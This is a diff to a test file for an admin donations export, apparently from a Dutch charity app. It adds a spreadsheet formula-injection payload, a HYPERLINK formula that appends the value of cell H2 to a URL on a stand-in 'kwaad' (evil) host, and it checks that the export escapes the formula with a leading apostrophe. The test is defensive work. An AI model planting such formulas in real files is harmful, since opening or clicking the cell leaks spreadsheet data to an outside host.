@@ -50,10 +50,13 @@ async function seedDonations({ app }: TestApp) {
       purpose: "Water",
       amountCents: 1000,
       name: '=HYPERLINK("http://kwaad.example")',
-      message: "Voor een put; met puntkomma",
+      message: FORMULA_ON_TWO_LINES,
     }),
   ]);
 }
+
+/** A formula with a semicolon and a line break in a string: still one formula for Excel. */
+const FORMULA_ON_TWO_LINES = '=HYPERLINK("http://kwaad.example/?e="&H2;"Bekijk\nbericht")';
 
 describe.each(engines)("admin donations on %s", (engine) => {
   it("filters by kind, destination, status and period, with totals in cents and weeks", async () => {
@@ -193,7 +196,7 @@ describe.each(engines)("admin donations on %s", (engine) => {
     expect(rows[1]?.[5]).toBe("In afwachting");
     expect(rows[1]?.[3]).toBe("Zakaat - €40,00");
     expect(rows[0]?.[6]).toBe('\'=HYPERLINK("http://kwaad.example")');
-    expect(rows[0]?.[13]).toBe("Voor een put; met puntkomma");
+    expect(rows[0]?.[13]).toBe(`'${FORMULA_ON_TWO_LINES}`);
   });
 });
 
